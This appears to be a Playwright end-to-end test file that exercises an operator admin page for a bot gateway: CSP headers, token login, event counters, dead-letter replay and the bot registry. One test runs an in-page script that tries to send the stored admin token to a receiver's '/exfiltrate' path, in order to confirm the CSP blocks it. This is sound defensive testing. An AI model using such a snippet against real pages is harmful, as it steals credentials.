// Issue 13: the operator's page, GET /admin, in a real headless Chromium (Debian's `chromium`,
// driven by playwright-core) against the Worker in workerd, the simulator and a real receiver.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { chromium } from 'playwright-core';
import { ROOT, waitFor } from './harness/index.mjs';
import { ADMIN_TOKEN, deployment } from './fixture.mjs';

const CHROMIUM = process.env.DGD_CHROMIUM || '/usr/bin/chromium';
/** Where the README's screenshot comes from: `DGD_UPDATE_SCREENSHOT=1` writes it into docs/. */
const SCREENSHOT = process.env.DGD_UPDATE_SCREENSHOT === '1'
  ? path.join(ROOT, 'docs', 'admin-page.png')
  : path.join(os.tmpdir(), `dgd-admin-page-${process.pid}.png`);
// The flags this machine needs (no sandbox as root, no background connections to Google).
const CHROMIUM_ARGS = ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
  '--disable-background-networking', '--disable-component-update', '--disable-sync'];

describe('issue 13: the operator page in a real browser', () => {
  let d;
  let browser;
  let page;
  /** Every request the page made: {url, authorization}. */
  const requests = [];
  /** Every dialog the page opened; accepted. */
  const dialogs = [];
  let origin;

  before(async () => {
    d = await deployment();
    await d.connectReady();
    origin = new URL(d.worker.url).origin;
    browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: CHROMIUM_ARGS });
    page = await browser.newPage({ viewport: { width: 1100, height: 900 } });
    page.on('request', (r) => requests.push({ url: r.url(), authorization: r.headers().authorization }));
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      dialog.accept();
    });
  });
  after(async () => {
    await browser?.close();
    await d?.stop();
  });

  const card = (name) => page.locator(`article.bot[data-bot="${name}"]`);

  test('GET /admin is one self-contained page behind a strict Content-Security-Policy', async () => {
    const response = await page.goto(`${origin}/admin`);
    assert.equal(response.status(), 200);
    const csp = response.headers()['content-security-policy'];
    assert.match(csp, /default-src 'none'/);
    assert.match(csp, /script-src 'self'/);
    assert.match(csp, /connect-src 'self'/);
    assert.equal(response.headers()['x-content-type-options'], 'nosniff');
    const html = await response.text();
    assert.doesNotMatch(html, /https?:\/\//, 'no external script, font or stylesheet');
    assert.doesNotMatch(html, /<script>(?!<\/script>)/, 'no inline script');
    // The page itself needs no token; the API does.
    assert.equal((await fetch(`${origin}/status`)).status, 401);
  });

  test('a wrong token says so plainly and nothing is shown', async () => {
    await page.goto(`${origin}/admin`);
    await page.getByLabel(/Admin token/).fill('not-the-token');
    await page.getByLabel(/Admin token/).press('Enter');
    const error = page.getByRole('alert');
    await error.waitFor();
    assert.match(await error.textContent(), /admin token is wrong/i);
    assert.equal(await page.locator('#login').isVisible(), true, 'back at the login form');
    assert.equal(await page.evaluate(() => sessionStorage.getItem('dgd-admin-token')), null, 'the wrong token is forgotten');
  });

  test('logging in with the keyboard shows the bot connected', async () => {
    await page.goto(`${origin}/admin`);
    await page.keyboard.press('Tab'); // the token field is the first control after the header
    await page.keyboard.type(ADMIN_TOKEN);
    await page.keyboard.press('Enter');
    await card('default').locator('.state', { hasText: 'connected' }).waitFor();
    assert.ok(await card('default').locator('.session').textContent(), 'a session id');
    assert.equal(await page.evaluate(() => sessionStorage.getItem('dgd-admin-token')), ADMIN_TOKEN);
  });

  test('events injected through the simulator move the counters and the sparkline', async () => {
    const chart = card('default').locator('.events-chart');
    const before = Number(await card('default').locator('.events').textContent());
    const totalBefore = Number(await chart.getAttribute('data-total') ?? 0);
    for (let i = 0; i < 5; i += 1) await d.dispatch({ preset: 'guild_message', overrides: { content: `spark ${i}` } });
    await d.receiver.waitFor((rs) => rs.filter((r) => /^spark /.test(r.json().data?.content ?? '')).length === 5);
    await waitFor(async () => Number(await card('default').locator('.events').textContent()) >= before + 5 || null,
      { timeoutMs: 15_000, message: 'events counter on the page' });
    // The sparkline's hour holds them (a minute may turn between two events: count the hour).
    await waitFor(async () => Number(await chart.getAttribute('data-total') ?? 0) >= totalBefore + 5 || null,
      { timeoutMs: 15_000, message: 'sparkline counts the new events' });
    assert.match(await chart.getAttribute('aria-label'), /events per minute: latest \d+, max \d+/);
    assert.equal(await chart.locator('polyline').count(), 1);
    const delivered = card('default').locator('.subscriptions tbody tr').first();
    assert.match(await delivered.locator('th').textContent(), /^default/);
  });

  test('a dead letter is listed with its error, replayed from the page, and delivered', async () => {
    let reject = true;
    d.receiver.setHandler((req) => (reject && req.json().data?.content === 'poison' ? { status: 400 } : { status: 200 }));
    const { sent: [poison] } = await d.dispatch({ preset: 'guild_message', overrides: { content: 'poison' } });
    const details = card('default').locator('details.dead-letters');
    const row = details.locator('tbody tr');
    await waitFor(async () => ((await row.count()) === 1 ? true : null), { timeoutMs: 15_000, message: 'dead letter on the page' });
    await details.locator('summary').click();
    assert.match(await row.textContent(), /MESSAGE_CREATE/);
    assert.match(await row.textContent(), /400/);
    reject = false;
    await row.getByRole('button', { name: 'Replay' }).click();
    await d.receiver.waitFor((rs) => rs.filter((r) => r.json().data?.id === poison.data.id).length === 2, 15_000);
    await waitFor(async () => ((await row.count()) === 0 ? true : null), { timeoutMs: 15_000, message: 'dead letters empty' });
    assert.equal((await d.status()).delivery.deadLetters, 0);
    d.receiver.setHandler(null);
  });

  test('disconnect asks first; connect brings the bot back; a second bot appears by itself', async () => {
    await card('default').getByRole('button', { name: 'Disconnect', exact: true }).click();
    await card('default').locator('.state', { hasText: 'disconnected' }).waitFor();
    assert.match(dialogs.at(-1), /Disconnect default\?/);
    await card('default').getByRole('button', { name: 'Connect', exact: true }).click();
    await card('default').locator('.state', { hasText: /^connected$/ }).waitFor({ timeout: 15_000 });
    // A bot connected through the API is in the registry; the page lists it without being told.
    assert.equal((await d.call('POST', '/connect?name=second', {})).status, 202);
    await card('second').locator('.state', { hasText: /^connected$/ }).waitFor({ timeout: 15_000 });
    const bots = (await d.call('GET', '/bots')).json.bots.map((b) => b.name);
    assert.deepEqual(bots, ['default', 'second']);
    fs.mkdirSync(path.dirname(SCREENSHOT), { recursive: true });
    await page.screenshot({ path: SCREENSHOT, fullPage: true });
    assert.ok(fs.statSync(SCREENSHOT).size > 10_000, 'a real screenshot');
  });

  test('the page never sends the token to another origin, and its policy blocks trying', async () => {
    assert.ok(requests.length > 10, `the page made ${requests.length} requests`);
    for (const r of requests) {
      assert.equal(new URL(r.url).origin, origin, `request to ${r.url}`);
    }
    assert.ok(requests.some((r) => r.authorization === `Bearer ${ADMIN_TOKEN}`), 'API calls carry the token');
    // Even a script running in the page cannot reach another origin: connect-src 'self'.
    const outcome = await page.evaluate(async (url) => {
      try {
        await fetch(url, { method: 'POST', headers: { authorization: `Bearer ${sessionStorage.getItem('dgd-admin-token')}` } });
        return 'sent';
      } catch (e) {
        return `blocked: ${e.message}`;
      }
    }, `${d.receiver.url}/exfiltrate`);
    assert.match(outcome, /^blocked/);
    assert.equal(d.receiver.requests.filter((r) => r.path === '/exfiltrate').length, 0);
  });

  test('the registry: admin token required, one name forgotten at a time, never all by default', async () => {
    assert.equal((await d.call('GET', '/bots', undefined, { token: 'wrong' })).status, 401);
    assert.equal((await d.call('POST', '/bots', {})).status, 405);
    assert.equal((await d.call('DELETE', '/bots?name=bad name!')).status, 400);
    const unnamed = await d.call('DELETE', '/bots');
    assert.equal(unnamed.status, 400, 'no implicit bot');
    assert.equal(unnamed.json.field, 'name');
    assert.equal((await d.call('DELETE', '/bots?name=second')).status, 204);
    assert.deepEqual((await d.call('GET', '/bots')).json.bots.map((b) => b.name), ['default']);
    assert.equal((await d.status('second')).state, 'connected', 'forgetting a name leaves its bot alone');
  });

  test('useful on a phone: the layout fits a narrow screen', async () => {
    await page.setViewportSize({ width: 390, height: 844 });
    await page.reload();
    await card('default').locator('.state').waitFor();
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    assert.ok(overflow <= 0, `no horizontal scrolling (overflow ${overflow}px)`);
  });
});
